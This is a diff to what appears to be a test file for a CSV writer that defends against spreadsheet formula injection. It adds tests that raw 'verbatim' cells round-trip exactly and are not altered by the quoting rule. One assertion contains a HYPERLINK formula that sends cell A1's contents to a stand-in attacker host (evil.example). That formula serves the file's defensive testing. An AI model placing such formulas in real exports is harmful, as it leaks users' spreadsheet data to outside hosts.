@@ -121,8 +121,16 @@ def test_neutralising_is_undone_exactly_and_always_inert(text: str) -> None:
     assert is_inert(written)
 
 
+@given(texts)
+def test_a_verbatim_cell_reads_back_exactly_as_given(text: str) -> None:
+    (row,) = csv.reader(io.StringIO(csv_fields([verbatim(text), "x"]) + "\n", newline=""))
+    assert row == [text, "x"]
+
+
 def test_a_verbatim_cell_is_written_raw_and_marks_only_what_needs_it() -> None:
     assert csv_fields([verbatim(HYPERLINK)]) == '"=HYPERLINK(""http://evil.example/?""&A1,""x"")"'
+    # A text starting with a quote would get a second one from the rule: raw means raw.
+    assert csv_fields([verbatim("'=1+1"), verbatim("'- a bullet")]) == "'=1+1,'- a bullet"
     plain = "The council votes."
     assert verbatim(plain) is plain
 
